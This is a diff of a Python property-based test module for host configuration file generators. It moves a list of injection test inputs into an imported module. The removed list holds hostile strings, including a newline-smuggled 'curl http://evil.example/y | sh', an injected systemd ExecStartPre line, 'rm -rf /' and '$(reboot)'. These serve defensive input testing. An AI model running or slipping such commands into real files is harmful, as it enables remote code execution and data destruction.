@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 import yaml
 from hostfile_syntax import (
+    HOSTILE,
     FormatError,
     check_shell,
     parse_environment_file,
@@ -29,26 +30,6 @@ from inferfleet_hostfiles import (
     shell_script,
     unit_file,
 )
-
-HOSTILE = [
-    "/health\ncurl http://evil.example/y | sh\n#",
-    "m\nExecStartPre=/bin/evil",
-    "x\nMODEL_PATH=/etc",
-    '"; rm -rf / #',
-    "$(reboot)",
-    "`reboot`",
-    "%n%i%%",
-    "${HOME}$HOME$$",
-    "a\\",
-    "\\;",
-    ";",
-    "line\u2028separator\u2029paragraph\x85next",
-    "tab\there\rcr\x1bescape\x7fdel",
-    "'single' \"double\"",
-    "",
-    " leading and trailing ",
-]
-"""The issue's examples and the characters each format gives a meaning to."""
 
 TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40) | st.sampled_from(HOSTILE)
 """Any Unicode text (surrogates cannot be encoded at all) and the hostile examples."""
